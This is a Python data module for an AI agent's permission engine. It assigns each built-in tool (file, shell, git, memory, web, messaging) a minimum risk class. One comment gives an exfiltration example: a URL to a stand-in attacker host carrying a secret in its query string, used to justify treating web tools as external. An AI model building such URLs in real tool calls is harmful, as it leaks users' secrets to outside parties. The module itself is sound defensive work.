"""The risk classes and the built-in risk table by tool name.

Pure data, shared by the permission engine (:mod:`openworker_qt.core.risk`
classifies calls with it) and the settings (:mod:`openworker_qt.storage.config`
checks that a workspace file's ``risk_overrides`` only raise). It imports nothing
of the package.
"""

from __future__ import annotations

import enum
from collections.abc import Mapping


class RiskClass(enum.StrEnum):
    READ = "read"
    WRITE_LOCAL = "write_local"
    EXEC = "exec"
    EXTERNAL = "external"

    @property
    def consequential(self) -> bool:
        return self is not RiskClass.READ


#: Floors by tool name. Applied with :func:`raise_to`: an entry can only make a
#: tool of that name *more* guarded than it declares.
BUILTIN_RISK: Mapping[str, RiskClass] = {
    # files
    "read_file": RiskClass.READ,
    "list_files": RiskClass.READ,
    "grep": RiskClass.READ,
    "glob": RiskClass.READ,
    "write_file": RiskClass.WRITE_LOCAL,
    "replace_in_file": RiskClass.WRITE_LOCAL,
    "apply_patch": RiskClass.WRITE_LOCAL,
    "apply_unified_diff": RiskClass.WRITE_LOCAL,
    "create_deliverable": RiskClass.WRITE_LOCAL,
    # shell
    "run_shell": RiskClass.EXEC,
    "shell_task_output": RiskClass.READ,
    "shell_task_kill": RiskClass.READ,
    # git
    "git_status": RiskClass.READ,
    "git_log": RiskClass.READ,
    "git_diff": RiskClass.READ,
    "git_show": RiskClass.READ,
    "git_branch": RiskClass.READ,
    "git_commit": RiskClass.WRITE_LOCAL,
    # agent bookkeeping
    "todo_write": RiskClass.READ,
    "ask_user": RiskClass.READ,
    "request_directory": RiskClass.READ,
    "propose_plan": RiskClass.READ,
    "load_skill": RiskClass.READ,
    "explore": RiskClass.READ,
    "memory_read": RiskClass.READ,
    "remember": RiskClass.READ,
    "memory_update": RiskClass.READ,
    "memory_forget": RiskClass.READ,
    # web: the query or the URL leaves the machine (a URL can carry anything the
    # model read, e.g. https://attacker.example/?q=<a secret>), so these are EXTERNAL
    # like any other send.
    "web_search": RiskClass.EXTERNAL,
    "web_fetch": RiskClass.EXTERNAL,
    # messaging
    "send_message": RiskClass.EXTERNAL,
    "send_file": RiskClass.EXTERNAL,
}
